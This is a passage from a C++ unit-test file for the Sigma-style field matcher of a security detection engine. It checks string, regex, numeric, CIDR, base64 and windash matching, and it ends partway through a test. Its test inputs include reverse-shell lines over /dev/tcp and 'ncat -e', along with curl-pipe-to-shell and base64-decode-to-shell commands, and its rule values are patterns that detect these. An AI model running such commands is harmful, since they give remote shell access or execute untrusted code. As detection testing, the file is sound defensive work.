// Field matchers: every operator, negation, case folding, missing vs empty fields, comparisons
// with another field, and the Sigma modifiers (wildcards, all, base64, base64offset, windash).
#include "server/hub/matcher.h"

#include <gtest/gtest.h>

#include <random>

#include <optional>
#include <string>
#include <vector>

namespace vigil::hub {
namespace {

MatchSpec spec(Op op, std::vector<std::string> values = {}) {
    MatchSpec s;
    s.op = op;
    s.values = std::move(values);
    return s;
}

// The compiled matcher, or a failed test and a placeholder when compile() refuses the spec.
Matcher compiled(const MatchSpec& s) {
    auto r = Matcher::compile(s);
    if (!r.ok()) {
        ADD_FAILURE() << "compile failed: " << r.message();
        return Matcher::compile(spec(Op::kIsNull)).value();
    }
    return std::move(r).value();
}

std::string compileError(const MatchSpec& s) {
    auto r = Matcher::compile(s);
    if (r.ok()) return "<compiled>";
    return r.message();
}

bool on(const Matcher& m, std::string_view v) {
    return m.match(&v);
}
bool absent(const Matcher& m) {
    return m.match(nullptr);
}
bool versus(const Matcher& m, std::string_view v, std::string_view other) {
    return m.match(&v, &other);
}

MatchSpec negated(MatchSpec s) {
    s.negate = true;
    return s;
}
MatchSpec caseless(MatchSpec s) {
    s.nocase = true;
    return s;
}
MatchSpec sigma(MatchSpec s) {
    s.sigma_wildcards = true;
    return s;
}

TEST(Matcher, Equals) {
    auto m = compiled(spec(Op::kEquals, {"/bin/bash", "/bin/sh"}));
    EXPECT_TRUE(on(m, "/bin/bash"));
    EXPECT_TRUE(on(m, "/bin/sh"));
    EXPECT_FALSE(on(m, "/bin/bas"));
    EXPECT_FALSE(on(m, "/bin/bash "));
    EXPECT_FALSE(on(m, "/BIN/SH"));

    auto n = compiled(negated(spec(Op::kEquals, {"/bin/bash"})));
    EXPECT_FALSE(on(n, "/bin/bash"));
    EXPECT_TRUE(on(n, "/bin/zsh"));

    auto c = compiled(caseless(spec(Op::kEquals, {"/Bin/Bash"})));
    EXPECT_TRUE(on(c, "/BIN/bash"));
    EXPECT_TRUE(on(c, "/bin/bash"));
    EXPECT_FALSE(on(c, "/bin/bash2"));
}

TEST(Matcher, EqualsManyValuesUseTheSetExactlyAndCaseless) {
    std::vector<std::string> shells = {"bash", "sh",   "dash", "zsh", "ksh",
                                       "csh",  "tcsh", "fish", "ash", "busybox"};
    auto exact = compiled(spec(Op::kEquals, shells));
    for (const auto& s : shells) EXPECT_TRUE(on(exact, s)) << s;
    EXPECT_FALSE(on(exact, "BASH"));
    EXPECT_FALSE(on(exact, "bas"));
    EXPECT_FALSE(on(exact, ""));

    auto folded = compiled(caseless(spec(Op::kEquals, {"Bash", "SH", "dash", "zsh", "ksh", "csh",
                                                       "tcsh", "fish", "ash", "BusyBox"})));
    EXPECT_TRUE(on(folded, "BASH"));
    EXPECT_TRUE(on(folded, "sh"));
    EXPECT_TRUE(on(folded, "busybox"));
    EXPECT_FALSE(on(folded, "bashh"));

    auto negative = compiled(negated(spec(Op::kEquals, shells)));
    EXPECT_FALSE(on(negative, "zsh"));
    EXPECT_TRUE(on(negative, "python3"));

    // Wildcard values next to many exact ones still match.
    std::vector<std::string> mixed = shells;
    mixed.push_back("python*");
    auto with_glob = compiled(sigma(spec(Op::kEquals, mixed)));
    EXPECT_TRUE(on(with_glob, "python3.11"));
    EXPECT_TRUE(on(with_glob, "fish"));
    EXPECT_FALSE(on(with_glob, "perl"));
}

TEST(Matcher, ContainsStartsEnds) {
    auto contains = compiled(spec(Op::kContains, {"/dev/tcp/"}));
    EXPECT_TRUE(on(contains, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
    EXPECT_TRUE(on(contains, "/dev/tcp/"));
    EXPECT_FALSE(on(contains, "/dev/tc"));
    EXPECT_FALSE(on(contains, "/DEV/TCP/"));

    auto starts = compiled(spec(Op::kStartsWith, {"/tmp/", "/dev/shm/"}));
    EXPECT_TRUE(on(starts, "/tmp/x"));
    EXPECT_TRUE(on(starts, "/dev/shm/.a"));
    EXPECT_FALSE(on(starts, "/var/tmp/x"));
    EXPECT_FALSE(on(starts, "/tmp"));

    auto ends = compiled(spec(Op::kEndsWith, {".php", ".jsp"}));
    EXPECT_TRUE(on(ends, "/var/www/shell.php"));
    EXPECT_TRUE(on(ends, ".jsp"));
    EXPECT_FALSE(on(ends, "/var/www/shell.php.bak"));
    EXPECT_FALSE(on(ends, "php"));

    auto not_contains = compiled(negated(spec(Op::kContains, {"sshd"})));
    EXPECT_FALSE(on(not_contains, "/usr/sbin/sshd -D"));
    EXPECT_TRUE(on(not_contains, "/usr/sbin/cron"));
    auto not_starts = compiled(negated(spec(Op::kStartsWith, {"/usr/"})));
    EXPECT_TRUE(on(not_starts, "/tmp/usr/x"));
    EXPECT_FALSE(on(not_starts, "/usr/bin/x"));
    auto not_ends = compiled(negated(spec(Op::kEndsWith, {".so"})));
    EXPECT_TRUE(on(not_ends, "libc.so.6"));
    EXPECT_FALSE(on(not_ends, "libx.so"));
}

TEST(Matcher, CaselessStringOpsFoldBothSides) {
    auto contains = compiled(caseless(spec(Op::kContains, {"Invoke-Expression"})));
    EXPECT_TRUE(on(contains, "pwsh -c INVOKE-EXPRESSION $x"));
    EXPECT_TRUE(on(contains, "invoke-expressioN"));
    EXPECT_FALSE(on(contains, "invoke-expressio"));
    EXPECT_FALSE(on(contains, "Invoke_Expression"));

    auto starts = compiled(caseless(spec(Op::kStartsWith, {"CURL "})));
    EXPECT_TRUE(on(starts, "curl http://x | sh"));
    EXPECT_FALSE(on(starts, " curl http://x"));
    auto ends = compiled(caseless(spec(Op::kEndsWith, {".SH"})));
    EXPECT_TRUE(on(ends, "/tmp/x.sh"));
    EXPECT_FALSE(on(ends, "/tmp/x.shx"));

    // Only ASCII letters fold; other bytes compare as they are.
    auto utf8 = compiled(caseless(spec(Op::kEquals, {"\xC3\xA9t\xC3\xA9"})));  // "été"
    EXPECT_TRUE(on(utf8, "\xC3\xA9T\xC3\xA9"));
    EXPECT_FALSE(on(utf8, "\xC3\x89T\xC3\x89"));  // "ÉTÉ"
    // '[' and '{' sit next to the letters: they must not fold into '{' or '['.
    auto punct = compiled(caseless(spec(Op::kEquals, {"a[b"})));
    EXPECT_FALSE(on(punct, "a{b"));
    EXPECT_TRUE(on(punct, "A[B"));
}

// Caseless contains against a plain fold-and-find over random text: needles with and without
// a non-letter anchor byte, at the start, the end, overlapping, repeated and absent.
TEST(Matcher, CaselessContainsAgreesWithANaiveSearch) {
    std::mt19937 rng(7);
    const std::string alphabet = "aAbBsS-/. 1\xC3";
    auto fold = [](std::string t) {
        for (auto& c : t) {
            if (c >= 'A' && c <= 'Z') c = static_cast<char>(c | 0x20);
        }
        return t;
    };
    for (int round = 0; round < 3000; ++round) {
        std::string needle, hay;
        const size_t nl = 1 + rng() % 4, hl = rng() % 40;
        for (size_t i = 0; i < nl; ++i) needle += alphabet[rng() % alphabet.size()];
        for (size_t i = 0; i < hl; ++i) hay += alphabet[rng() % alphabet.size()];
        if (rng() % 3 == 0 && hl > 0) hay.insert(rng() % hay.size(), needle);
        auto m = compiled(caseless(spec(Op::kContains, {needle})));
        const bool want = fold(hay).find(fold(needle)) != std::string::npos;
        ASSERT_EQ(on(m, hay), want) << "needle '" << needle << "' in '" << hay << "'";
    }
    // A long value of one case with the needle's first letter only in the other: linear time.
    std::string big(1 << 20, 'a');
    auto m = compiled(caseless(spec(Op::kContains, {"ab"})));
    EXPECT_FALSE(on(m, big));
    big.back() = 'B';
    EXPECT_TRUE(on(m, big));
}

TEST(Matcher, RegexSearches) {
    auto m = compiled(spec(Op::kRegex, {R"(nc(at)?\s+-e\s)"}));
    EXPECT_TRUE(on(m, "/usr/bin/ncat -e /bin/sh 10.0.0.1 4444"));
    EXPECT_TRUE(on(m, "nc -e /bin/sh"));
    EXPECT_FALSE(on(m, "nc -l 4444"));
    EXPECT_FALSE(on(m, "NC -e /bin/sh"));

    auto anchored = compiled(spec(Op::kRegex, {"^/tmp/[^/]+$"}));
    EXPECT_TRUE(on(anchored, "/tmp/x"));
    EXPECT_FALSE(on(anchored, "/tmp/x/y"));
    EXPECT_FALSE(on(anchored, "/var/tmp/x"));

    auto folded = compiled(caseless(spec(Op::kRegex, {"base64 +-d"})));
    EXPECT_TRUE(on(folded, "echo x | BASE64 -D | sh"));
    EXPECT_FALSE(on(folded, "base64 -e"));

    auto negative = compiled(negated(spec(Op::kRegex, {"^/usr/"})));
    EXPECT_TRUE(on(negative, "/tmp/a"));
    EXPECT_FALSE(on(negative, "/usr/a"));

    auto any = compiled(spec(Op::kRegex, {"^a", "z$"}));
    EXPECT_TRUE(on(any, "abc"));
    EXPECT_TRUE(on(any, "xyz"));
    EXPECT_FALSE(on(any, "xyza"));

    // A copy shares the compiled regexes and outlives the original.
    std::optional<Matcher> copy;
    {
        const Matcher original = compiled(spec(Op::kRegex, {"^nc "}));
        copy.emplace(original);
    }
    EXPECT_TRUE(on(*copy, "nc -e /bin/sh"));
    EXPECT_FALSE(on(*copy, "ncat -e /bin/sh"));
}

TEST(Matcher, RegexErrorsCarryRe2Message) {
    std::string error = compileError(spec(Op::kRegex, {"ok", "(unclosed"}));
    EXPECT_NE(error.find("'(unclosed'"), std::string::npos) << error;
    EXPECT_NE(error.find("missing )"), std::string::npos) << error;  // RE2's own words

    error = compileError(spec(Op::kRegex, {"a**"}));
    EXPECT_NE(error.find("bad repetition operator"), std::string::npos) << error;
    // Perl back-references are outside RE2.
    error = compileError(spec(Op::kRegex, {R"((a)\1)"}));
    EXPECT_NE(error.find("invalid escape sequence"), std::string::npos) << error;
}

TEST(Matcher, NumericIntegers) {
    auto less = compiled(spec(Op::kLess, {"1024"}));
    EXPECT_TRUE(on(less, "22"));
    EXPECT_TRUE(on(less, "-5"));
    EXPECT_FALSE(on(less, "1024"));
    EXPECT_FALSE(on(less, "65535"));

    auto less_eq = compiled(spec(Op::kLessEq, {"1024"}));
    EXPECT_TRUE(on(less_eq, "1024"));
    EXPECT_FALSE(on(less_eq, "1025"));

    auto greater = compiled(spec(Op::kGreater, {"-1"}));
    EXPECT_TRUE(on(greater, "0"));
    EXPECT_FALSE(on(greater, "-1"));
    EXPECT_FALSE(on(greater, "-100"));

    auto greater_eq = compiled(spec(Op::kGreaterEq, {"0"}));
    EXPECT_TRUE(on(greater_eq, "0"));
    EXPECT_FALSE(on(greater_eq, "-1"));

    // The whole int64 and uint64 ranges compare exactly (ids, inode and cgroup numbers).
    auto big = compiled(spec(Op::kGreater, {"18446744073709551614"}));
    EXPECT_TRUE(on(big, "18446744073709551615"));
    EXPECT_FALSE(on(big, "18446744073709551614"));
    auto low = compiled(spec(Op::kLess, {"-9223372036854775807"}));
    EXPECT_TRUE(on(low, "-9223372036854775808"));
    EXPECT_FALSE(on(low, "-9223372036854775807"));
}

TEST(Matcher, NumericFloatsAndNonNumbers) {
    auto m = compiled(spec(Op::kGreaterEq, {"0.5"}));
    EXPECT_TRUE(on(m, "0.5"));
    EXPECT_TRUE(on(m, "1"));
    EXPECT_TRUE(on(m, "1e3"));
    EXPECT_FALSE(on(m, "0.49"));
    EXPECT_FALSE(on(m, "-2.5"));

    auto int_rule = compiled(spec(Op::kLess, {"3"}));
    EXPECT_TRUE(on(int_rule, "2.999"));
    EXPECT_FALSE(on(int_rule, "3.0"));

    // Not a number: the test fails (and its negation holds); never an error at match time.
    for (std::string_view bad : {"", "abc", "12abc", " 12", "0x10", "nan", "inf", "1e999", "+"}) {
        EXPECT_FALSE(on(int_rule, bad)) << bad;
        EXPECT_TRUE(on(compiled(negated(spec(Op::kLess, {"3"}))), bad)) << bad;
    }

    auto all = compiled([] {
        auto s = spec(Op::kGreater, {"10", "20"});
        s.match_all = true;
        return s;
    }());
    EXPECT_TRUE(on(all, "21"));
    EXPECT_FALSE(on(all, "15"));
    auto any = compiled(spec(Op::kGreater, {"10", "20"}));
    EXPECT_TRUE(on(any, "15"));
}

TEST(Matcher, NumericValuesMustBeNumbers) {
    for (Op op : {Op::kLess, Op::kLessEq, Op::kGreater, Op::kGreaterEq}) {
        std::string error = compileError(spec(op, {"10", "ten"}));
        EXPECT_NE(error.find("'ten' is not a number"), std::string::npos) << error;
        EXPECT_NE(error.find(opName(op)), std::string::npos) << error;
    }
    EXPECT_NE(compileError(spec(Op::kLess, {"nan"})), "<compiled>");
    EXPECT_NE(compileError(spec(Op::kLess, {""})), "<compiled>");
}

TEST(Matcher, NullTests) {
    auto is_null = compiled(spec(Op::kIsNull));
    EXPECT_TRUE(absent(is_null));
    EXPECT_TRUE(on(is_null, ""));
    EXPECT_FALSE(on(is_null, "x"));
    EXPECT_FALSE(on(is_null, " "));

    auto not_null = compiled(spec(Op::kNotNull));
    EXPECT_FALSE(absent(not_null));
    EXPECT_FALSE(on(not_null, ""));
    EXPECT_TRUE(on(not_null, "x"));

    // negate(is_null) is exactly not_null.
    auto not_is_null = compiled(negated(spec(Op::kIsNull)));
    for (const std::string_view* v : {static_cast<const std::string_view*>(nullptr)}) {
        EXPECT_EQ(not_is_null.match(v), not_null.match(v));
    }
    for (std::string_view v : {"", "x"}) EXPECT_EQ(on(not_is_null, v), on(not_null, v)) << v;

    EXPECT_NE(compileError(spec(Op::kIsNull, {"x"})).find("takes no value"), std::string::npos);
    MatchSpec with_other = spec(Op::kNotNull);
    with_other.other_field = "pid";
    EXPECT_NE(compileError(with_other), "<compiled>");
}

// A missing field fails every test but is_null, and negation flips that; an empty field is a
// present string.
TEST(Matcher, MissingAndEmptyFieldForEveryOperator) {
    struct Case {
        MatchSpec spec;
        bool on_empty;
    };
    const std::vector<Case> cases = {
        {spec(Op::kEquals, {"x"}), false},        {spec(Op::kEquals, {""}), true},
        {spec(Op::kContains, {"x"}), false},      {spec(Op::kContains, {""}), true},
        {spec(Op::kStartsWith, {"x"}), false},    {spec(Op::kEndsWith, {"x"}), false},
        {spec(Op::kRegex, {"x"}), false},         {spec(Op::kRegex, {"^$"}), true},
        {spec(Op::kLess, {"5"}), false},          {spec(Op::kLessEq, {"5"}), false},
        {spec(Op::kGreater, {"5"}), false},       {spec(Op::kGreaterEq, {"5"}), false},
        {spec(Op::kCidr, {"0.0.0.0/0"}), false},  {sigma(spec(Op::kEquals, {"*"})), true},
        {sigma(spec(Op::kEquals, {"?"})), false}, {spec(Op::kNotNull), false},
    };
    for (const Case& c : cases) {
        const std::string name =
            std::string(opName(c.spec.op)) + (c.spec.values.empty() ? "" : " " + c.spec.values[0]);
        auto m = compiled(c.spec);
        EXPECT_FALSE(absent(m)) << name;
        EXPECT_EQ(on(m, ""), c.on_empty) << name;
        auto n = compiled(negated(c.spec));
        EXPECT_TRUE(absent(n)) << "not " << name;
        EXPECT_EQ(on(n, ""), !c.on_empty) << "not " << name;
    }
    EXPECT_TRUE(absent(compiled(spec(Op::kIsNull))));
    EXPECT_FALSE(absent(compiled(negated(spec(Op::kIsNull)))));
}

TEST(Matcher, OtherFieldStrings) {
    MatchSpec s = spec(Op::kEquals);
    s.other_field = "parent_exe";
    auto eq = compiled(s);
    EXPECT_EQ(eq.otherField(), "parent_exe");
    EXPECT_TRUE(versus(eq, "/bin/bash", "/bin/bash"));
    EXPECT_FALSE(versus(eq, "/bin/bash", "/BIN/BASH"));
    EXPECT_FALSE(versus(eq, "/bin/bash", "/bin/bas"));
    EXPECT_TRUE(versus(eq, "", ""));
    std::string_view v = "x";
    EXPECT_FALSE(eq.match(&v, nullptr));  // the other field is missing
    EXPECT_FALSE(eq.match(nullptr, &v));  // this field is missing
    EXPECT_TRUE(compiled(negated(s)).match(&v, nullptr));

    auto eq_folded = compiled(caseless(s));
    EXPECT_TRUE(versus(eq_folded, "/bin/bash", "/BIN/Bash"));

    s.op = Op::kContains;
    auto contains = compiled(s);
    EXPECT_TRUE(versus(contains, "/home/alice/.ssh/authorized_keys", "alice"));
    EXPECT_FALSE(versus(contains, "/home/alice", "ALICE"));
    EXPECT_TRUE(versus(compiled(caseless(s)), "/home/alice", "ALICE"));
    EXPECT_TRUE(versus(contains, "abc", ""));

    s.op = Op::kStartsWith;
    EXPECT_TRUE(versus(compiled(s), "/proc/123/exe", "/proc/123"));
    EXPECT_FALSE(versus(compiled(s), "/proc/12", "/proc/123"));
    s.op = Op::kEndsWith;
    EXPECT_TRUE(versus(compiled(s), "/tmp/sshd", "sshd"));
    EXPECT_TRUE(versus(compiled(caseless(s)), "/tmp/SSHD", "sshd"));
    EXPECT_FALSE(versus(compiled(s), "/tmp/sshd2", "sshd"));

    // Other values are literal even for Sigma specs.
    s.op = Op::kEquals;
    EXPECT_FALSE(versus(compiled(sigma(s)), "abc", "a*"));
    EXPECT_TRUE(versus(compiled(sigma(s)), "a*", "a*"));
}

TEST(Matcher, OtherFieldNumbers) {
    MatchSpec s = spec(Op::kLess);
    s.other_field = "ppid";
    auto less = compiled(s);
    EXPECT_TRUE(versus(less, "5", "10"));  // numeric, not lexical ("5" > "10" as text)
    EXPECT_FALSE(versus(less, "10", "10"));
    EXPECT_TRUE(versus(less, "-1.5", "-1"));
    EXPECT_FALSE(versus(less, "x", "10"));
    EXPECT_FALSE(versus(less, "5", "y"));
    s.op = Op::kLessEq;
    EXPECT_TRUE(versus(compiled(s), "10", "10"));
    s.op = Op::kGreater;
    EXPECT_TRUE(versus(compiled(s), "1000", "0"));
    EXPECT_FALSE(versus(compiled(s), "0", "0"));
    s.op = Op::kGreaterEq;
    EXPECT_TRUE(versus(compiled(s), "0", "0.0"));
    EXPECT_FALSE(versus(compiled(s), "-1", "0"));
}

TEST(Matcher, OtherFieldRefusals) {
    MatchSpec s = spec(Op::kRegex);
    s.other_field = "exe";
    EXPECT_NE(compileError(s).find("cannot compare with another field"), std::string::npos);
    s.op = Op::kCidr;
    EXPECT_NE(compileError(s).find("cannot compare with another field"), std::string::npos);
    s = spec(Op::kEquals, {"x"});
    s.other_field = "exe";
    EXPECT_NE(compileError(s).find("not both"), std::string::npos);
    s = spec(Op::kContains);
    s.other_field = "exe";
    s.windash = true;
    EXPECT_NE(compileError(s), "<compiled>");
    s.windash = false;
    s.match_all = true;
    EXPECT_NE(compileError(s), "<compiled>");
}

TEST(Matcher, CidrIpv4AndIpv6) {
    auto m = compiled(spec(Op::kCidr, {"10.0.0.0/8", "192.168.1.0/24", "fd00::/8", "::1"}));
    EXPECT_TRUE(on(m, "10.1.2.3"));
    EXPECT_TRUE(on(m, "192.168.1.255"));
    EXPECT_FALSE(on(m, "192.168.2.1"));
    EXPECT_FALSE(on(m, "11.0.0.1"));
    EXPECT_TRUE(on(m, "fd12:3456::1"));
    EXPECT_TRUE(on(m, "FD00::abcd"));
    EXPECT_FALSE(on(m, "fe80::1"));
    EXPECT_TRUE(on(m, "::1"));
    EXPECT_FALSE(on(m, "::2"));
    EXPECT_TRUE(on(m, "::ffff:10.9.8.7"));  // IPv4-mapped counts as IPv4
    EXPECT_FALSE(on(m, "not an ip"));
    EXPECT_FALSE(on(m, "10.1.2"));
    EXPECT_FALSE(on(m, "10.1.2.3/8"));
    EXPECT_FALSE(on(m, ""));

    // Prefixes that do not end on a byte; host bits in the rule are masked.
    auto odd = compiled(spec(Op::kCidr, {"172.16.0.0/12", "2001:db8:8000::/33", "100.64.9.9/10"}));
    EXPECT_TRUE(on(odd, "172.31.255.255"));
    EXPECT_FALSE(on(odd, "172.32.0.0"));
    EXPECT_FALSE(on(odd, "172.15.255.255"));
    EXPECT_TRUE(on(odd, "2001:db8:ffff::1"));
    EXPECT_FALSE(on(odd, "2001:db8:7fff::1"));
    EXPECT_TRUE(on(odd, "100.127.0.1"));
    EXPECT_FALSE(on(odd, "100.128.0.1"));

    auto zone = compiled(spec(Op::kCidr, {"fe80::/10"}));
    EXPECT_TRUE(on(zone, "fe80::1%eth0"));
    auto mapped_rule = compiled(spec(Op::kCidr, {"::ffff:192.168.0.0/112"}));
    EXPECT_TRUE(on(mapped_rule, "192.168.3.4"));
    EXPECT_FALSE(on(mapped_rule, "192.169.0.1"));
    auto all = compiled(spec(Op::kCidr, {"0.0.0.0/0", "::/0"}));
    EXPECT_TRUE(on(all, "8.8.8.8"));
    EXPECT_TRUE(on(all, "2001:4860::8888"));

    auto outside = compiled(negated(spec(Op::kCidr, {"10.0.0.0/8"})));
    EXPECT_TRUE(on(outside, "8.8.8.8"));
    EXPECT_FALSE(on(outside, "10.0.0.1"));
    EXPECT_TRUE(on(outside, "garbage"));
}

TEST(Matcher, BadCidrIsACompileError) {
    for (std::string bad : {"10.0.0.0/33", "::/129", "10.0.0/8", "10.0.0.0/", "10.0.0.0/8x",
                            "example.com", "", "/8", "10.0.0.0/-1", "1.2.3.4.5"}) {
        const std::string error = compileError(spec(Op::kCidr, {bad}));
        EXPECT_NE(error.find("is not an IP network"), std::string::npos) << bad << ": " << error;
    }
}

TEST(Matcher, SigmaWildcards) {
    auto ends = compiled(sigma(spec(Op::kEquals, {"*/bash"})));
    EXPECT_TRUE(on(ends, "/usr/bin/bash"));
    EXPECT_FALSE(on(ends, "/usr/bin/bash5"));
    auto inner = compiled(sigma(spec(Op::kEquals, {"/usr/*/python*"})));
    EXPECT_TRUE(on(inner, "/usr/bin/python3"));
    EXPECT_TRUE(on(inner, "/usr/local/bin/python"));
    EXPECT_FALSE(on(inner, "/opt/bin/python3"));
    auto one = compiled(sigma(spec(Op::kEquals, {"/dev/tty?"})));
    EXPECT_TRUE(on(one, "/dev/tty1"));
    EXPECT_FALSE(on(one, "/dev/tty"));
    EXPECT_FALSE(on(one, "/dev/tty12"));
    // '?' is one character, not one byte.
    auto utf8 = compiled(sigma(spec(Op::kEquals, {"caf?"})));
    EXPECT_TRUE(on(utf8, "caf\xC3\xA9"));
    // ... and '*' never stops inside a character: "€" is one character, so "€xz" has no two
    // characters before an 'x'.
    const std::string euro = "\xE2\x82\xAC";
    auto two_then_x = compiled(sigma(spec(Op::kEquals, {"*??x*"})));
    EXPECT_FALSE(on(two_then_x, euro + "xz"));
    EXPECT_TRUE(on(two_then_x, euro + "yxz"));

    // Backtracking: the first 'b' is not the one that completes the match.
    auto back = compiled(sigma(spec(Op::kEquals, {"a*b?c*d"})));
    EXPECT_TRUE(on(back, "abxbyczzd"));
    EXPECT_TRUE(on(back, "ab-cd"));
    EXPECT_FALSE(on(back, "abxbyczz"));
    EXPECT_FALSE(on(back, "abcd"));

    // '*' only: literal runs found left to right, anchored at either end when no '*' is there.
    auto runs = compiled(sigma(spec(Op::kEquals, {"ab*ba"})));
    EXPECT_TRUE(on(runs, "abba"));
    EXPECT_TRUE(on(runs, "ab-ba"));
    EXPECT_FALSE(on(runs, "aba"));  // the runs may not overlap
    EXPECT_FALSE(on(runs, "abbax"));
    EXPECT_FALSE(on(runs, "xabba"));
    auto repeated = compiled(sigma(spec(Op::kEquals, {"*ab*ab*"})));
    EXPECT_TRUE(on(repeated, "abab"));
    EXPECT_TRUE(on(repeated, "xabyyabz"));
    EXPECT_FALSE(on(repeated, "xaby"));
    EXPECT_FALSE(on(repeated, "aba"));
    auto tail = compiled(caseless(sigma(spec(Op::kEquals, {"*Python*-C"}))));
    EXPECT_TRUE(on(tail, "/usr/bin/PYTHON3 -c"));
    EXPECT_FALSE(on(tail, "/usr/bin/python3 -c x"));
    EXPECT_FALSE(on(tail, "-c python"));

    // The string modifiers wrap the value in '*' as Sigma's do, wildcards inside still work.
    auto contains = compiled(sigma(spec(Op::kContains, {"wget*http"})));
    EXPECT_TRUE(on(contains, "sh -c 'wget -q http://x/a'"));
    EXPECT_FALSE(on(contains, "http wget"));
    auto starts = compiled(sigma(spec(Op::kStartsWith, {"/tmp/?"})));
    EXPECT_TRUE(on(starts, "/tmp/a/b"));
    EXPECT_FALSE(on(starts, "/tmp/"));
    auto ends_with = compiled(sigma(spec(Op::kEndsWith, {"?.so"})));
    EXPECT_TRUE(on(ends_with, "/lib/x.so"));
    EXPECT_FALSE(on(ends_with, ".so"));

    auto anything = compiled(sigma(spec(Op::kEquals, {"*"})));
    EXPECT_TRUE(on(anything, "x"));
    EXPECT_TRUE(on(anything, ""));
    EXPECT_FALSE(absent(anything));

    auto folded = compiled(caseless(sigma(spec(Op::kEquals, {R"(*\WINDOWS\\*.EXE)"}))));
    EXPECT_TRUE(on(folded, "c:\\windows\\system32\\cmd.exe"));
    EXPECT_FALSE(on(folded, "c:\\windows\\system32\\cmd.dll"));

    // Without sigma_wildcards, '*' and '?' are ordinary characters.
    auto plain = compiled(spec(Op::kEquals, {"a*"}));
    EXPECT_TRUE(on(plain, "a*"));
    EXPECT_FALSE(on(plain, "ab"));
}

TEST(Matcher, SigmaWildcardEscapes) {
    auto star = compiled(sigma(spec(Op::kEquals, {R"(a\*b)"})));
    EXPECT_TRUE(on(star, "a*b"));
    EXPECT_FALSE(on(star, "axxb"));
    auto question = compiled(sigma(spec(Op::kEquals, {R"(why\?)"})));
    EXPECT_TRUE(on(question, "why?"));
    EXPECT_FALSE(on(question, "whyx"));
    // \\ is one backslash; the '*' after it is a wildcard.
    auto backslash = compiled(sigma(spec(Op::kEquals, {R"(C:\\*)"})));
    EXPECT_TRUE(on(backslash, R"(C:\Windows)"));
    EXPECT_TRUE(on(backslash, R"(C:\\x)"));
    EXPECT_FALSE(on(backslash, "C:/x"));
    EXPECT_FALSE(on(backslash, "C:x"));
    // A backslash before anything else stays a backslash; before '*' it escapes it.
    auto literal = compiled(sigma(spec(Op::kEquals, {R"(C:\Windows\\*)"})));
    EXPECT_TRUE(on(literal, R"(C:\Windows\System32)"));
    auto escaped = compiled(sigma(spec(Op::kEquals, {R"(C:\Windows\*)"})));
    EXPECT_TRUE(on(escaped, R"(C:\Windows*)"));
    EXPECT_FALSE(on(escaped, R"(C:\Windows\System32)"));
    auto trailing = compiled(sigma(spec(Op::kEquals, {R"(dir\)"})));
    EXPECT_TRUE(on(trailing, R"(dir\)"));
    auto escaped_contains = compiled(sigma(spec(Op::kContains, {R"(\*\?)"})));
    EXPECT_TRUE(on(escaped_contains, "x*?y"));
    EXPECT_FALSE(on(escaped_contains, "xy"));
}

TEST(Matcher, AllValuesMustMatch) {
    MatchSpec s = spec(Op::kContains, {"-i", "/dev/tcp"});
    s.match_all = true;
    auto all = compiled(s);
    EXPECT_TRUE(on(all, "bash -i >& /dev/tcp/1.2.3.4/80"));
    EXPECT_FALSE(on(all, "bash -i"));
    EXPECT_FALSE(on(all, "cat /dev/tcp/x"));
    s.match_all = false;
    EXPECT_TRUE(on(compiled(s), "bash -i"));

    // Many exact values with all never take the any-of set.
    MatchSpec eq = spec(Op::kEquals, {"a", "a", "a", "a", "a", "a", "a", "a", "a"});
    eq.match_all = true;
    EXPECT_TRUE(on(compiled(eq), "a"));
    eq.values.push_back("b");
    EXPECT_FALSE(on(compiled(eq), "a"));

    MatchSpec re = spec(Op::kRegex, {"^a", "b$"});
    re.match_all = true;
    EXPECT_TRUE(on(compiled(re), "acb"));
    EXPECT_FALSE(on(compiled(re), "acc"));
    MatchSpec net = spec(Op::kCidr, {"10.0.0.0/8", "10.1.0.0/16"});
    net.match_all = true;
    EXPECT_TRUE(on(compiled(net), "10.1.2.3"));
    EXPECT_FALSE(on(compiled(net), "10.2.2.3"));
}

TEST(Matcher, Base64) {
    MatchSpec s = spec(Op::kContains, {"hello"});
    s.base64 = true;
    auto m = compiled(s);
    EXPECT_TRUE(on(m, "echo aGVsbG8= | base64 -d | sh"));
    EXPECT_FALSE(on(m, "echo hello"));
    EXPECT_FALSE(on(m, "echo aGVsbG8gd29ybGQ="));  // plain base64 is offset- and length-bound
    // Encoded text is case-significant even when the spec asks for nocase.
    s.nocase = true;
    auto folded = compiled(s);
    EXPECT_TRUE(on(folded, "aGVsbG8="));
    EXPECT_FALSE(on(folded, "AGVSBG8="));

    MatchSpec eq = spec(Op::kEquals, {"a", "ab", "abc", ""});
    eq.base64 = true;
    auto lengths = compiled(eq);
    EXPECT_TRUE(on(lengths, "YQ=="));
    EXPECT_TRUE(on(lengths, "YWI="));
    EXPECT_TRUE(on(lengths, "YWJj"));
    EXPECT_TRUE(on(lengths, ""));
    EXPECT_FALSE(on(lengths, "YWJjZA=="));

    MatchSpec wild = sigma(spec(Op::kContains, {"he*o"}));
    wild.base64 = true;
    EXPECT_NE(compileError(wild).find("wildcards"), std::string::npos);
    wild.values = {R"(he\*o)"};
    EXPECT_TRUE(on(compiled(wild), "aGUqbw=="));  // base64("he*o")
}

TEST(Matcher, Base64OffsetMatchesEveryAlignment) {
    MatchSpec s = spec(Op::kContains, {"hello"});
    s.base64offset = true;
    auto m = compiled(s);
    const std::vector<Matcher::Literal> expected = {
        {"aGVsbG", false, false}, {"hlbGxv", false, false}, {"oZWxsb", false, false}};
    EXPECT_EQ(m.literals(), expected);
    EXPECT_TRUE(on(m, "echo aGVsbG8gd29ybGQ= | base64 -d"));  // "hello world", offset 0
    EXPECT_TRUE(on(m, "echo eGhlbGxv | base64 -d"));          // "xhello", offset 1
    EXPECT_TRUE(on(m, "echo eHhoZWxsbw== | base64 -d"));      // "xxhello", offset 2
    EXPECT_TRUE(on(m, "eHh4aGVsbG8="));                       // "xxxhello", offset 0 again
    EXPECT_FALSE(on(m, "echo aGVscG8= | base64 -d"));         // "helpo"
    EXPECT_FALSE(on(m, "hello"));

    s.values = {"a"};
    EXPECT_NE(compileError(s).find("too short for base64offset"), std::string::npos);
    s.values = {"ab"};
    EXPECT_TRUE(on(compiled(s), "IGFi"));  // " ab"
    s.op = Op::kEquals;
    EXPECT_NE(compileError(s).find("needs contains"), std::string::npos);
    s.op = Op::kContains;
    s.base64 = true;
    EXPECT_NE(compileError(s).find("exclude each other"), std::string::npos);
}

TEST(Matcher, Windash) {
    MatchSpec s = spec(Op::kContains, {" -e "});
    s.windash = true;
    auto m = compiled(s);
    EXPECT_TRUE(on(m, "nc -e /bin/sh"));
    EXPECT_TRUE(on(m, "nc /e /bin/sh"));
